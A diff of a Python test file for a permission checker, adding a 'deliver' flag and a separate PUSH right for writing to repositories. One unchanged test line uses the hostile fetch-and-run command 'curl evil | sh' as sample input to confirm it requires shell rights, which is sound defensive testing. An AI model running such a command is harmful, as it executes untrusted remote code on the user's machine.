@@ -40,7 +40,9 @@ def test_commands_and_local_repositories_need_their_rights() -> None:
     agent_cmd = {**AGENT, "command": "curl evil | sh"}
     assert needs(tasks=[agent_cmd]) == {Right.SHELL_COMMANDS}
     assert needs(gates=GATE_CMD) == {Right.GATE_COMMANDS}
-    assert needs(repository="/srv/repo") == {Right.LOCAL_REPOSITORY}
+    assert needs(repository="/srv/repo", deliver=False) == {Right.LOCAL_REPOSITORY}
+    # Delivering (the default with a repository) writes to it: a right of its own.
+    assert needs(repository="/srv/repo") == {Right.LOCAL_REPOSITORY, Right.PUSH}
     assert needs(tasks=[SHELL], gates=GATE_CMD, repository="../x") == set(Right)
 
 
@@ -56,7 +58,8 @@ def test_commands_and_local_repositories_need_their_rights() -> None:
 )
 def test_remote_repositories_are_plain(repository: str) -> None:
     assert rights.is_remote(repository)
-    assert needs(repository=repository) == set()
+    assert needs(repository=repository, deliver=False) == set()
+    assert needs(repository=repository) == {Right.PUSH}
 
 
 @pytest.mark.parametrize(
